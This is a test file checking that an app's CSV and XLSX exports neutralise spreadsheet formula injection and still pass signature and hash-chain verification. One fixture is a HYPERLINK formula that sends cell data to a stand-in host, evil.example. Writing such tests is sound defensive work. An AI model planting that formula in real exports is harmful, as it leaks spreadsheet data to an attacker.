import { execFile } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { csvCellSql, neutraliseCell } from '../src/exports/csv-cells';
import { exportRecords } from '../src/exports/verify/export-records';
import { ALL_MILESTONES, insertFounder, openCase, sendEvent } from './support/cases';
import type { TestApp } from './support/test-app';
import { useSeededApp, World } from './support/world';
import { bufferBody } from './support/exports';

const run = promisify(execFile);
const CLI = join(__dirname, '../dist/scripts/verify-export.js');
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

// Free texts a spreadsheet would run as formulas, and one that already looks neutralised.
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")';
const TEXTS = {
  hyperlink: HYPERLINK,
  minus: '-1+1',
  at: '@SUM(A1:A9)',
  plus: '+49 6131 0',
  quoted: "'=schon neutral",
  tab: '\tmit Tab',
};
const TRIGGER = /^[=+\-@\t\r]/;

/** Spreadsheet-safe cells (issue 10, items 13 and 14): neutralised formulas, typed XLSX cells. */
describe('export cells that spreadsheets read safely and that still verify', () => {
  let t: TestApp;
  let w: World;
  const dir = mkdtempSync(join(tmpdir(), 'lotse-cells-'));
  let keyFile: string;

  useSeededApp((app, world) => ([t, w] = [app, world]));
  beforeAll(async () => {
    // API office codes start with a letter or digit, older or imported ones need not: a hashed
    // cell that the codec neutralises, so the chain verifies only if the verifier reverses it.
    await t.db.query(`UPDATE office SET code = '-RUN-MZ' WHERE id = $1`, [w.officeA]);
    const founder = await insertFounder(t, w.officeA);
    const one = await openCase(t, w, 'advisorA', founder);
    await sendEvent(t, w, 'advisorA', one.id, {
      type: 'PAUSE',
      reason: TEXTS.hyperlink,
      note: TEXTS.minus,
    }).expect(200);
    await sendEvent(t, w, 'advisorA', one.id, { type: 'RESUME', note: TEXTS.at }).expect(200);
    await sendEvent(t, w, 'advisorA', one.id, {
      type: 'PAUSE',
      reason: TEXTS.quoted,
      note: TEXTS.tab,
    }).expect(200);
    // A case that is completed: its COMPLETE row has a calendar date (followUpOn).
    const two = await openCase(t, w, 'advisorA', founder);
    await t
      .http()
      .patch(`/api/v1/cases/${two.id}`)
      .set(w.as('advisorA'))
      .send({ firstCounsellingScheduledOn: '2026-01-12' })
      .expect(200);
    await sendEvent(t, w, 'advisorA', two.id, { type: 'START_COUNSELLING' }).expect(200);
    await t
      .http()
      .post(`/api/v1/cases/${two.id}/contacts`)
      .set(w.as('advisorA'))
      .send({ on: '2026-01-20', minutes: 60, format: 'video', kind: 'first_counselling' })
      .expect(201);
    await t
      .http()
      .patch(`/api/v1/cases/${two.id}`)
      .set(w.as('advisorA'))
      .send(ALL_MILESTONES)
      .expect(200);
    await sendEvent(t, w, 'advisorA', two.id, { type: 'START_PLANNING' }).expect(200);
    await sendEvent(t, w, 'advisorA', two.id, { type: 'LAUNCH', note: TEXTS.plus }).expect(200);
    await sendEvent(t, w, 'advisorA', two.id, { type: 'START_CONSOLIDATION' }).expect(200);
    await sendEvent(t, w, 'advisorA', two.id, {
      type: 'COMPLETE',
      outcome: 'founded_main',
      followUpOn: '2026-10-01',
    }).expect(200);
    keyFile = join(dir, 'key.pem');
    writeFileSync(
      keyFile,
      (await t.http().get('/api/v1/exports/public-key').set(w.as('leadA')).expect(200)).body
        .publicKeyPem,
    );
  });

  const TEXT_QUERY = `?officeId=PLACEHOLDER&includeText=true`;
  const exportAs = async (query: string) => {
    const res = await t
      .http()
      .get(`/api/v1/exports/phase-history${query.replace('PLACEHOLDER', w.officeA)}`)
      .set(w.as('leadA'))
      .buffer(true)
      .parse(bufferBody)
      .expect(200);
    const id = res.headers['x-export-id'];
    const manifest = (
      await t.http().get(`/api/v1/exports/${id}/manifest`).set(w.as('leadA')).expect(200)
    ).body;
    return { body: res.body as Buffer, id, manifest };
  };

  const verify = async (body: Buffer, type: string, exportId?: string) =>
    (
      await t
        .http()
        .post(`/api/v1/exports/verify${exportId ? `?exportId=${exportId}` : ''}`)
        .set(w.as('leadA'))
        .set('content-type', type)
        .send(body)
        .expect(200)
    ).body;

  const cli = async (file: string, manifest?: object) => {
    const args = [CLI, file];
    if (manifest) {
      writeFileSync(`${file}.manifest.json`, JSON.stringify(manifest));
      args.push('--manifest', `${file}.manifest.json`, '--public-key', keyFile);
    }
    try {
      return { code: 0, stdout: (await run(process.execPath, args)).stdout };
    } catch (error) {
      const e = error as { code: number; stdout: string };
      return { code: e.code, stdout: e.stdout };
    }
  };

  const rows = (body: Buffer, delimiter: string) =>
    parse<Record<string, string>>(body, {
      columns: true,
      bom: true,
      delimiter,
      record_delimiter: '\r\n',
    });

  describe.each([
    ['rfc4180', '', ','],
    ['excel-de', '&dialect=excel-de', ';'],
  ])('CSV, %s', (dialect, query, delimiter) => {
    let file: { body: Buffer; id: string; manifest: object };
    let parsed: Record<string, string>[];
    beforeAll(async () => {
      file = await exportAs(`${TEXT_QUERY}${query}`);
      parsed = rows(file.body, delimiter);
    });

    it('starts no cell with a formula character: such texts get a leading apostrophe', () => {
      expect(parsed).toHaveLength(8);
      expect(parsed.every((r) => r.officeCode === `'-RUN-MZ`)).toBe(true);
      for (const row of parsed)
        for (const cell of Object.values(row)) expect(cell).not.toMatch(TRIGGER);
      const pauses = parsed.filter((r) => r.event === 'PAUSE');
      expect(pauses.map((r) => [r.reason, r.note])).toEqual([
        [`'${TEXTS.hyperlink}`, `'${TEXTS.minus}`],
        [`''=schon neutral`, `'\tmit Tab`],
      ]);
      expect(parsed.find((r) => r.event === 'RESUME')?.note).toBe(`'${TEXTS.at}`);
      expect(parsed.find((r) => r.event === 'LAUNCH')?.note).toBe(neutraliseCell(TEXTS.plus));
    });

    it(`writes calendar dates ${dialect === 'excel-de' ? 'as TT.MM.JJJJ' : 'as YYYY-MM-DD'} and timestamps as ISO text`, () => {
      const complete = parsed.find((r) => r.event === 'COMPLETE');
      expect(complete?.followUpOn).toBe(dialect === 'excel-de' ? '01.10.2026' : '2026-10-01');
      for (const row of parsed)
        expect(row.at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    });

    it('verifies through POST /exports/verify, with its manifest', async () => {
      expect(await verify(file.body, 'text/csv', file.id)).toMatchObject({
        valid: true,
        chains: { rows: 8, cases: 2, broken: [] },
        manifest: {
          signatureValid: true,
          digestMatches: true,
          headsMatch: true,
          rowCountMatches: true,
        },
      });
    });

    it('verifies with the CLI, and a changed neutralised cell breaks its chain', async () => {
      const path = join(dir, `${dialect}.csv`);
      writeFileSync(path, file.body);
      const ok = await cli(path, file.manifest);
      expect(ok).toMatchObject({ code: 0, stdout: expect.stringContaining('VALID') });
      // One more apostrophe is not a neutral edit: the office code would read '-RUN-MZ.
      const edited = join(dir, `${dialect}-edited.csv`);
      writeFileSync(edited, file.body.toString('utf8').replace(`'-RUN-MZ`, `''-RUN-MZ`));
      const broken = await cli(edited);
      expect(broken.code).toBe(1);
      expect(broken.stdout).toMatch(
        /BROKEN chain c_[0-9a-f]+: first broken row seq 1 \(hash_mismatch\)/,
      );
    });

    it('reads every cell back as the value it encodes, texts included', async () => {
      const read: Record<string, unknown>[] = [];
      for await (const record of exportRecords(Readable.from([file.body]), 'csv'))
        read.push(record);
      expect(read.every((r) => r.officeCode === '-RUN-MZ')).toBe(true);
      const texts = read.flatMap((r) => [r.reason, r.note]).filter((v) => v !== null);
      expect(texts.sort()).toEqual(Object.values(TEXTS).sort());
      expect(read.find((r) => r.event === 'COMPLETE')?.followUpOn).toBe('2026-10-01');
    });
  });

  describe('XLSX', () => {
    let file: { body: Buffer; id: string; manifest: object };
    let sheet: ExcelJS.Worksheet;
    const column: Record<string, number> = {};
    beforeAll(async () => {
      file = await exportAs(`${TEXT_QUERY}&format=xlsx`);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(file.body as unknown as ArrayBuffer);
      sheet = book.worksheets[0];
      (sheet.getRow(1).values as string[]).forEach((name, i) => (column[name] = i));
    });
    const cell = (row: number, name: string) => sheet.getRow(row).getCell(column[name]);

    it('writes hashes, refs and texts as text cells with the text format, never as formulas', () => {
      expect(sheet.rowCount).toBe(9);
      const first = cell(2, 'prevHash');
      expect(first.type).toBe(ExcelJS.ValueType.String);
      expect(first.value).toBe('0'.repeat(64));
      for (let r = 2; r <= 9; r++) {
        for (const name of ['caseRef', 'officeCode', 'actorRef', 'prevHash', 'hash', 'event']) {
          expect(cell(r, name).type).toBe(ExcelJS.ValueType.String);
          expect(cell(r, name).numFmt).toBe('@');
        }
        expect(cell(r, 'reason').type).not.toBe(ExcelJS.ValueType.Formula);
      }
      const reasons = Array.from({ length: 8 }, (_, i) => cell(i + 2, 'reason').value);
      // Not neutralised in XLSX: a string cell is never run, so the text stays exactly as typed.
      expect(reasons).toContain(TEXTS.hyperlink);
    });

    it('writes at and followUpOn as date cells with a date format, and counters as numbers', () => {
      for (let r = 2; r <= 9; r++) {
        expect(cell(r, 'at').value).toBeInstanceOf(Date);
        expect(cell(r, 'at').numFmt).toBe('yyyy-mm-dd hh:mm:ss.000');
        expect(cell(r, 'seq').type).toBe(ExcelJS.ValueType.Number);
      }
      const complete = Array.from({ length: 8 }, (_, i) => i + 2).find(
        (r) => cell(r, 'event').value === 'COMPLETE',
      ) as number;
      expect(cell(complete, 'followUpOn').value).toEqual(new Date('2026-10-01T00:00:00.000Z'));
      expect(cell(complete, 'followUpOn').numFmt).toBe('dd.mm.yyyy');
    });

    it('freezes the header row and puts an autofilter over every row', () => {
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      const last = String.fromCharCode(64 + sheet.getRow(1).cellCount);
      expect(sheet.autoFilter).toBe(`A1:${last}9`);
    });

    it('verifies through POST /exports/verify and the CLI', async () => {
      expect(await verify(file.body, XLSX_TYPE, file.id)).toMatchObject({
        valid: true,
        chains: { rows: 8, cases: 2, broken: [] },
        manifest: { signatureValid: true, digestMatches: true, headsMatch: true },
      });
      const path = join(dir, 'export.xlsx');
      writeFileSync(path, file.body);
      expect(await cli(path, file.manifest)).toMatchObject({
        code: 0,
        stdout: expect.stringContaining('VALID'),
      });
    });

    describe('re-saved by LibreOffice Calc', () => {
      // Each conversion runs soffice with a profile of its own, so parallel test files do not meet.
      const soffice = async (input: string, to: string) => {
        const out = mkdtempSync(join(dir, 'lo-'));
        const profile = `file://${mkdtempSync(join(tmpdir(), 'lotse-lo-profile-'))}`;
        await run(
          'soffice',
          [
            `-env:UserInstallation=${profile}`,
            '--headless',
            '--convert-to',
            to,
            '--outdir',
            out,
            input,
          ],
          { timeout: 60_000 },
        );
        return readFileSync(join(out, readdirSync(out)[0]));
      };

      it('still verifies as XLSX: hashes stay text, dates stay exact', async () => {
        const resaved = await soffice(join(dir, 'export.xlsx'), 'xlsx');
        expect(resaved.equals(file.body)).toBe(false);
        expect(await verify(resaved, XLSX_TYPE)).toMatchObject({
          valid: true,
          chains: { rows: 8, cases: 2, broken: [] },
        });
      }, 60_000);
    });
  });

  it('writes in SQL exactly what the cell codec says, in both dialects', async () => {
    const values = [...Object.values(TEXTS), "''@y", 'ok', "'ok", '', 'a=b', '\rCR', '2026-10-01'];
    for (const dialect of ['rfc4180', 'excel-de'] as const) {
      const sql = csvCellSql(dialect)('reason', 'v');
      const written = await t.db.query(
        `SELECT ${sql} AS c FROM unnest($1::text[]) WITH ORDINALITY AS x(v, n) ORDER BY n`,
        [[...values, null]],
      );
      expect(written.map((r: { c: string | null }) => r.c)).toEqual([
        ...values.map(neutraliseCell),
        null,
      ]);
    }
    const date = csvCellSql('excel-de')('followUpOn', 'v');
    const dates = await t.db.query(
      `SELECT ${date} AS c FROM unnest($1::text[]) WITH ORDINALITY AS x(v, n) ORDER BY n`,
      [['2024-02-29', 'x', null]],
    );
    expect(dates.map((r: { c: string | null }) => r.c)).toEqual(['29.02.2024', 'x', null]);
  });
});
